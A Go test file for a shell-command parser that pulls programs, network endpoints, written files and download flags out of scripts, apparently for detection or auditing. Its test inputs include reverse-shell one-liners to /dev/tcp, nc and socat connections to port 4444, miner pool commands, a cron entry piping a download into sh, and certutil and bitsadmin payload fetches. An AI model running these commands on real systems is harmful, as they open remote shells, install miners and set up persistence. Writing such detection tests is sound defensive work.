package command

import (
	"fmt"
	"strings"
	"testing"
)

// said writes down what was read of a command line: programs; then, each
// behind its sign, "@" endpoints, ">" what it writes, "!" what it runs, and
// what holds.
func said(c Line) string {
	out := append([]string{}, c.Programs...)
	for _, e := range c.Endpoints {
		host := e.Host
		if e.Addr.Is6() {
			host = "[" + host + "]"
		}
		if e.Scheme != "" {
			host = e.Scheme + "://" + host
		}
		if e.Port != 0 {
			host = fmt.Sprintf("%s:%d", host, e.Port)
		}
		out = append(out, "@"+host)
	}
	for _, w := range c.Writes {
		out = append(out, ">"+w)
	}
	for _, f := range c.Runs {
		out = append(out, "!"+f)
	}
	for i, holds := range []bool{c.Drops != "", c.Downloads, c.DownloadPiped, c.DecodePiped} {
		if holds {
			out = append(out, []string{"~drops", "~downloads", "~fetched", "~decoded"}[i])
		}
	}
	return strings.Join(out, " ")
}

func same(t *testing.T, line string, c Line, want string) {
	t.Helper()
	if got := strings.Join(strings.Fields(said(c)), " "); got != strings.Join(strings.Fields(want), " ") {
		t.Errorf("%s\n got %s\nwant %s", line, got, want)
	}
}

// TestScripts pins what is read out of the script of a shell. The script is
// given as "sh -c", so that every line begins with sh.
func TestScripts(t *testing.T) {
	for script, want := range map[string]string{
		// Simple commands and lists.
		"":                             "",
		"ls -la /tmp":                  "ls",
		"a; b && c || d & e":           "a b c d e",
		"a\nb\n\n# c\nd":               "a b d",
		"A=1 B=2 cmd x":                "cmd",
		"cd /tmp && set -e; exec java": "java",
		"if a; then b; elif c; then d; else e; fi": "a b c d e",
		"while a; do b; done; until c; do d; done": "a b c d",
		"for i in 1 2; do a; done":                 "a",
		"case $x in y) a;; *) b;; esac":            "a b",
		"{ a; }; (b; c)":                           "a b c",
		"! a; time b; a":                           "a b",
		"x=$(a) y=`b` c \"$(d)\" <(e)":             "a b d e c",
		"echo $((1 + $(a)))":                       "a echo",
		"f() { a; }; f; f":                         "a",
		"f() { a; }":                               "a",
		"function f { a $1; }; f x":                "a",
		"f() { f; a; }; f":                         "a",
		"[ -f x ] && [[ $(a) == b ]]":              "a",
		"trap 'x' EXIT; true":                      "true",
		"/usr/local/bin/app --port 80":             "app !/usr/local/bin/app",
		"./app":                                    "app !./app",
		"coproc a; (( $(b) + 1 ))":                 "a b",
		"a | b | c":                                "a b c",
		"echo a > /dev/null 2>&1":                  "echo",
		"let x=1; export A=b; readonly c":          "",

		// Where to: URLs.
		"curl http://a.example/x":                                          "curl @http://a.example:80 ~downloads",
		"curl HTTP://A.Example:8080/x":                                     "curl @http://a.example:8080 ~downloads",
		"curl https://203.0.113.7":                                         "curl @https://203.0.113.7:443 ~downloads",
		"curl 'http://[2001:db8::7]:8080/x?y=1'":                           "curl @http://[2001:db8::7]:8080 ~downloads",
		"curl http://user:pass@a.example/x":                                "curl @http://a.example:80 ~downloads",
		"curl http://user:p@ss:w@a.example:81/x":                           "curl @http://a.example:81 ~downloads",
		"curl http://a.example@b.example/":                                 "curl @http://b.example:80 ~downloads",
		"curl http://a.example./x":                                         "curl @http://a.example:80 ~downloads",
		"curl http://a.example:99999/x":                                    "curl @http://a.example:80 ~downloads",
		"curl http://a%2eexample/x":                                        "curl @http://a.example:80 ~downloads",
		"curl 'http://b\u00fccher.example/x'":                              "curl @http://b\u00fccher.example:80 ~downloads",
		"curl 'http://a.example\\@b.example/'":                             "curl @http://a.example:80 ~downloads",
		"curl http://localhost:8080/health":                                "curl @http://localhost:8080 ~downloads",
		"curl http://web/health":                                           "curl @http://web:80 ~downloads",
		"curl http://3405803783/x":                                         "curl @http://203.0.113.7:80 ~downloads",
		"curl http://0xcb.0x0.0x71.0x7/x":                                  "curl @http://203.0.113.7:80 ~downloads",
		"curl http://0313.0.0161.07/x":                                     "curl @http://203.0.113.7:80 ~downloads",
		"curl http://127.1/x":                                              "curl @http://127.0.0.1:80 ~downloads",
		"curl ftp://a.example/x wss://b.example/y":                         "curl @ftp://a.example:21 @wss://b.example:443 ~downloads",
		"miner -o stratum+tcp://a.example:3333":                            "miner @stratum+tcp://a.example:3333",
		"miner --url=stratum+ssl://W.x:p@a.example:443":                    "miner @stratum+ssl://a.example:443",
		"psql postgres://u:p@db:5432/x":                                    "psql @postgres://db:5432",
		"java -Durl=jdbc:mysql://db.example:3306/x":                        "java @mysql://db.example:3306",
		"x file:///etc/passwd unix:///run/x s3://bucket.name/x fd://3":     "x",
		"x http:// http:///a http://. http://-a/ ://a.example":             "x",
		"x '{\"a\":\"http://a.example/x\",\"b\":[\"https://b.example\"]}'": "x @http://a.example:80 @https://b.example:443",
		"curl http://a.example/r?u=http://b.example":                       "curl @http://a.example:80 @http://b.example:80 ~downloads",
		"curl http://a.example/1 http://a.example/2":                       "curl @http://a.example:80 ~downloads",
		"curl http://$(hostname).a.example/":                               "hostname curl @http://a.example:80 ~downloads",
		"curl http://$HOST/ http://a.example:$PORT/":                       "curl @http://a.example:80 ~downloads",
		"curl $URL": "curl",

		// Where to: hosts.
		"curl 203.0.113.7":                "curl @http://203.0.113.7:80 ~downloads",
		"curl a.example/x b.example:81/y": "curl @http://a.example:80 @http://b.example:81 ~downloads",
		"curl user:pw@a.example:81/x":     "curl @http://a.example:81 ~downloads",
		"curl backend:8080/x":             "curl @http://backend:8080 ~downloads",
		"curl -sS --url a.example -H 'Host: b.example' -A agent.example -d data.txt -T f.txt": "curl @http://a.example:80 ~downloads",
		"curl --connect-timeout 5 --retry 3 -m 9 a.example":                                   "curl @http://a.example:80 ~downloads",
		"curl -x proxy.example:3128 http://a.example":                                         "curl @proxy.example:3128 @http://a.example:80 ~downloads",
		"nc a.example 4444":                                         "nc @a.example:4444",
		"nc -w 3 -p 99 203.0.113.7 4444":                            "nc @203.0.113.7:4444",
		"nc 2001:db8::7 80":                                         "nc @[2001:db8::7]:80",
		"nc.openbsd db 5432":                                        "nc.openbsd @db:5432",
		"nc -lvp 4444":                                              "nc",
		"nc -l 0.0.0.0 4444":                                        "nc",
		"nc -l 4444":                                                "nc",
		"telnet a.example":                                          "telnet @a.example",
		"telnet a.example 25":                                       "telnet @a.example:25",
		"ssh -i key.pem -p 2222 root@a.example uptime":              "ssh @a.example:2222",
		"ssh -o StrictHostKeyChecking=no bastion":                   "ssh @bastion",
		"scp -P 22 file.txt root@a.example:/tmp/file.txt":           "scp @ssh://a.example:22",
		"rsync -avz --exclude=x.txt src/ a.example::mod":            "rsync @ssh://a.example:22",
		"rsync -e 'ssh -p 2222' x u@a.example:y":                    "rsync ssh @ssh://a.example:22",
		"git clone git@a.example:org/repo.git":                      "git @ssh://a.example:22",
		"git clone https://a.example/org/repo.git":                  "git @https://a.example:443",
		"git push origin HEAD:refs/heads/x v1.2.3":                  "git",
		"ping -c 4 a.example":                                       "ping @a.example",
		"dig +short TXT x.a.example @203.0.113.53":                  "dig @x.a.example @203.0.113.53",
		"nslookup -type=txt $(id -u).a.example":                     "id nslookup @a.example",
		"nslookup a.example":                                        "nslookup @a.example",
		"socat - TCP:a.example:443,retry":                           "socat @a.example:443",
		"socat TCP4-LISTEN:4444,fork TCP6:[2001:db8::7]:80":         "socat @[2001:db8::7]:80",
		"socat openssl-connect:a.example:443,verify=0 STDIO":        "socat @a.example:443",
		"app --peer a.example:7000 --bind=0.0.0.0:80 -h203.0.113.7": "app @a.example:7000 @203.0.113.7",
		"./xm -o 198.51.100.71:14444 -u 4abc":                       "xm @198.51.100.71:14444 !./xm",
		"./xm -o198.51.100.71:14444 --pool=b.example:1":             "xm @198.51.100.71:14444 @b.example:1 !./xm",
		"app [2001:db8::7]:443 localhost:80":                        "app @[2001:db8::7]:443 @localhost:80",
		"HTTPS_PROXY=http://proxy.example:3128 app":                 "app @http://proxy.example:3128",
		"export PEERS=a.example:1,b.example:2; app":                 "app @a.example:1 @b.example:2",
		"for h in a.example:1 203.0.113.7; do app $h; done":         "app @a.example:1 @203.0.113.7",
		"app <<< 'connect a.example:443'":                           "app @a.example:443",
		"exec 3<>/dev/tcp/a.example/443; cat <&3":                   "cat @a.example:443",
		"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1":                 "bash @203.0.113.7:4444",
		"bash -c 'cat /dev/tcp/x; sh -i &>/dev/udp/203.0.113.7/53'": "bash cat @203.0.113.7:53",
		"bash -i > /dev/tcp/a.example/443 0<& 2>&1":                 "bash @a.example:443",
		"echo x > /dev/tcp/$H/$P":                                   "echo",

		// What is no place.
		"tar xf a.tar.gz -C /opt":                 "tar",
		"cat server.conf file.txt:12 config.yaml": "cat",
		"java -jar app.jar --server.port=80":      "java !app.jar",
		"python3 app.py v1.2.3 main.app:app":      "python3 !app.py",
		"node server.js":                          "node !server.js",
		"pip install requests==2.31.0 x.whl":      "pip",
		"apk add --no-cache curl=8.5.0-r0":        "apk",
		"apt-get install -y libc6=2.36-9":         "apt-get",
		"npm i @scope/pkg@1.2.3; date 12:30:45; x a:b:c 10:20 std::string aa:bb:cc:dd:ee:ff": "npm date x",
		"ls 10.0.0.0/8 1.2.3 a.b -o x.y key:123 :80 host: user@host a.example":               "ls",
		"x 0.0.0.0:80 :: [::]:80":                  "x",
		"chown 1000:1000 x; docker run nginx.v1:x": "chown docker",

		"curl 8080; ping 443; curl http://80/": "curl ping",

		// What is written.
		"curl -o /tmp/a http://a.example/x":                                            "curl @http://a.example:80 >/tmp/a ~downloads",
		"curl -fsSLo/tmp/a http://a.example/x":                                         "curl @http://a.example:80 >/tmp/a ~downloads",
		"curl --output /tmp/a http://a.example/x":                                      "curl @http://a.example:80 >/tmp/a ~downloads",
		"curl -o a http://a.example/1 -o b http://a.example/2":                         "curl @http://a.example:80 >a >b ~downloads",
		"curl -sSLO http://a.example/d/x.sh?y=1#z":                                     "curl @http://a.example:80 >x.sh ~downloads",
		"curl --remote-name http://a.example/x":                                        "curl @http://a.example:80 >x ~downloads",
		"curl --output-dir /tmp -O http://a.example/x":                                 "curl @http://a.example:80 >/tmp/x ~downloads",
		"curl -O a.example/x.bin":                                                      "curl @http://a.example:80 >x.bin ~downloads",
		"curl -o /dev/null http://a.example/":                                          "curl @http://a.example:80 ~downloads",
		"curl -o - http://a.example/":                                                  "curl @http://a.example:80 ~downloads",
		"curl -d @-o -P /x http://a.example/":                                          "curl @http://a.example:80 ~downloads",
		"curl -o $DIR/x http://a.example/":                                             "curl @http://a.example:80 ~downloads",
		"D=/opt; curl -o $D/x http://a.example/":                                       "curl @http://a.example:80 >/opt/x ~downloads",
		"D=\"$(echo /opt)\"; curl -o \"$D/x\" a.example":                               "echo curl @http://a.example:80 >/opt/x ~downloads",
		"wget http://a.example/d/x":                                                    "wget @http://a.example:80 >x ~downloads",
		"wget a.example/d/x":                                                           "wget @http://a.example:80 >x ~downloads",
		"wget http://a.example":                                                        "wget @http://a.example:80 >index.html ~downloads",
		"wget http://a.example/":                                                       "wget @http://a.example:80 >index.html ~downloads",
		"wget 'http://a.example/x?y=1'":                                                "wget @http://a.example:80 >x?y=1 ~downloads",
		"wget http://a.example/x http://a.example/y":                                   "wget @http://a.example:80 >x >y ~downloads",
		"wget -O /tmp/a http://a.example/x":                                            "wget @http://a.example:80 >/tmp/a ~downloads",
		"wget -qO /tmp/a http://a.example/x":                                           "wget @http://a.example:80 >/tmp/a ~downloads",
		"wget -qO- http://a.example/x":                                                 "wget @http://a.example:80 ~downloads",
		"wget -O - http://a.example/x":                                                 "wget @http://a.example:80 ~downloads",
		"wget --output-document=/tmp/a http://a.example/x":                             "wget @http://a.example:80 >/tmp/a ~downloads",
		"wget --output-document /tmp/a http://a.example/x":                             "wget @http://a.example:80 >/tmp/a ~downloads",
		"wget -P /tmp http://a.example/x":                                              "wget @http://a.example:80 >/tmp/x ~downloads",
		"wget -P /tmp -O b http://a.example/x":                                         "wget @http://a.example:80 >b ~downloads",
		"wget -t 3 -T 9 -U agent.example -o log.txt http://a.example/x":                "wget @http://a.example:80 >x ~downloads",
		"wget -i list.txt":                                                             "wget",
		"aria2c -d /tmp -o x http://a.example/y":                                       "aria2c @http://a.example:80 >/tmp/x ~downloads",
		"busybox wget -O x http://a.example/y":                                         "busybox wget @http://a.example:80 >x ~downloads",
		"app > out.txt 2> err.txt":                                                     "app >out.txt >err.txt",
		"app >> out.txt; app >| b; app &> c; app &>> d; app >& e":                      "app >out.txt >b >c >d >e",
		"app > /dev/null 2>&1 >&2 2>&-; app > /dev/stderr":                             "app",
		"app > /dev/shm/x; app > /dev/mqueue/y":                                        "app >/dev/shm/x >/dev/mqueue/y",
		"app > \"$OUT\"":                                                               "app",
		"> empty":                                                                      ">empty",
		"a | tee -a x y | b > z":                                                       "a tee b >x >y >z",
		"dd if=/dev/zero of=/tmp/x bs=1":                                               "dd >/tmp/x",
		"certutil -urlcache -split -f http://a.example/x.exe C:\\\\Temp\\\\x.exe":      `certutil @http://a.example:80 >C:\Temp\x.exe ~downloads`,
		"bitsadmin /transfer j http://a.example/x 'C:\\x.exe'":                         `bitsadmin @http://a.example:80 >C:\x.exe ~downloads`,
		"cat > /etc/cron.d/x << EOF\n* * * * * root curl http://a.example/x|sh\nEOF\n": "cat @http://a.example:80 >/etc/cron.d/x",
	} {
		same(t, script, Parse([]string{"sh", "-c", script}, "", ""), "sh "+want)
	}
}
